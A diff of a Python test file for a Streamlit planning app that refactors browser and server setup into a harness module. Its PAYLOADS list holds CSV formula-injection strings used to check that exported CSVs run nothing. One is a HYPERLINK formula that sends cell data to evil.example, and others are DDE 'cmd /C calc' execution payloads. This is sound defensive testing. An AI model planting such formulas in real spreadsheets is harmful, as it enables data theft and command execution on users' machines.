@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 from pathlib import Path
 
 import pytest
@@ -12,10 +11,9 @@ from openpyxl import load_workbook
 
 from plandb import importer
 from reports.safe_csv import is_formula
-from scripts import screenshots
+from scripts import harness
 
-pytestmark = pytest.mark.skipif(not Path(screenshots.CHROMIUM).exists() or shutil.which("chromium") is None,
-                                reason="needs Debian's chromium at /usr/bin/chromium (.ci/run installs it)")
+pytestmark = pytest.mark.skipif(harness.chromium_path() is None, reason=harness.NO_CHROMIUM)
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bax")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)",
             "-2+3+cmd|' /C calc'!A0"]
 
@@ -49,8 +47,9 @@ def test_the_toolbar_csv_of_a_payload_plan_runs_nothing(site):
     from playwright.sync_api import sync_playwright
 
     assert importer.apply(payload_plan(site), "QKU editor").applied
-    with screenshots.streamlit_server({"STRATEGY_DB": str(site / "s.duckdb")}) as url, sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=screenshots.CHROMIUM, args=screenshots.CHROMIUM_ARGS)
+    with harness.start_server({"STRATEGY_DB": str(site / "s.duckdb")}) as server, sync_playwright() as p:
+        url = server.url
+        browser = harness.launch_browser(p)
         try:
             context = browser.new_context(accept_downloads=True, viewport={"width": 1400, "height": 1000})
             # no native save dialog: Streamlit's exporter then downloads the file as a link does
